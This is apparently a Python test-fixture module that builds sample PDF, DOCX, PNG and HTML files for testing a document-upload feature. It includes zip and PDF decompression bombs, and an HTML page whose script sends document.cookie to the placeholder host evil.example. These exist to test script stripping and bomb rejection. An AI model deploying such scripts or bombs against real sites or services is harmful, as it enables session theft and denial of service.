"""Documents the knowledge tests upload, written here (no fixture files, no download):
a PDF with a text layer (hand-written PDF syntax, Helvetica), a scanned PDF (pages that
are images only, by Pillow), a DOCX (python-docx), an HTML page with a script, a PNG with
text rendered by Pillow (for OCR), and bombs."""

from __future__ import annotations

import io
import zipfile
import zlib


def make_pdf(pages: list[list[str]]) -> bytes:
    """A PDF whose page i shows the lines pages[i] (real text operators, extractable)."""
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    pages_id = len(objects) + 1 + 2 * len(pages)  # after every page and its content
    kids = []
    for lines in pages:
        ops = [b"BT /F1 11 Tf 14 TL 50 780 Td"]
        for line in lines:
            escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
            ops.append(b"(" + escaped.encode("latin-1") + b") Tj T*")
        ops.append(b"ET")
        stream = b"\n".join(ops)
        content = add(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
        kids.append(
            add(
                b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 842] /Contents %d 0 R "
                b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (pages_id, content, font)
            )
        )
    refs = b" ".join(b"%d 0 R" % kid for kid in kids)
    assert add(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (refs, len(kids))) == pages_id
    catalog = add(b"<< /Type /Catalog /Pages %d 0 R >>" % pages_id)
    return _pdf_file(objects, catalog)


def make_pdf_bomb(unpacked_bytes: int) -> bytes:
    """A one-page PDF whose content stream inflates to `unpacked_bytes` of spaces."""
    packed = zlib.compress(b" " * unpacked_bytes, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    ]
    return _pdf_file(objects, 1)


def _pdf_file(objects: list[bytes], root: int) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def make_docx(sections: list[tuple[str, list[str]]]) -> bytes:
    """A DOCX of (heading, paragraphs) sections."""
    import docx

    document = docx.Document()
    for heading, paragraphs in sections:
        document.add_heading(heading, level=1)
        for paragraph in paragraphs:
            document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_docx_bomb(unpacked_bytes: int) -> bytes:
    """A DOCX-shaped zip with one member that inflates to `unpacked_bytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * unpacked_bytes)
    return out.getvalue()


def make_png(lines: list[str], scale: int = 3) -> bytes:
    """Black text on white, large enough for tesseract to read."""
    from PIL import Image, ImageDraw, ImageFont

    font = ImageFont.load_default(size=14 * scale)
    height = (len(lines) + 1) * 20 * scale
    width = max(len(line) for line in lines) * 9 * scale + 40 * scale
    image = Image.new("L", (width, height), 255)
    draw = ImageDraw.Draw(image)
    for i, line in enumerate(lines):
        draw.text((20 * scale, (10 + 20 * i) * scale), line, fill=0, font=font)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def make_scanned_pdf(pages: list[list[str]], scale: int = 3) -> bytes:
    """A PDF like a scanner makes: page i is one image (JPEG) of the lines pages[i], and
    there is no text layer at all."""
    from PIL import Image

    images = [Image.open(io.BytesIO(make_png(lines, scale))).convert("RGB") for lines in pages]
    out = io.BytesIO()
    images[0].save(out, "PDF", save_all=True, append_images=images[1:], resolution=72 * scale)
    return out.getvalue()


def make_html(title: str, sections: list[tuple[str, list[str]]]) -> bytes:
    """An article page with a script in the head and one in the body, and an onclick."""
    body = "".join(
        f"<h2>{heading}</h2>" + "".join(f"<p>{p}</p>" for p in paragraphs)
        for heading, paragraphs in sections
    )
    return (
        f"<!doctype html><html><head><title>{title}</title>"
        "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>"
        f"<body><nav><a href='/'>Home</a></nav><article><h1>{title}</h1>{body}"
        "<script>document.write('INJECTED-BY-SCRIPT')</script>"
        "<p onclick=\"alert('INJECTED-BY-HANDLER')\">The end of the article.</p>"
        "</article></body></html>"
    ).encode()
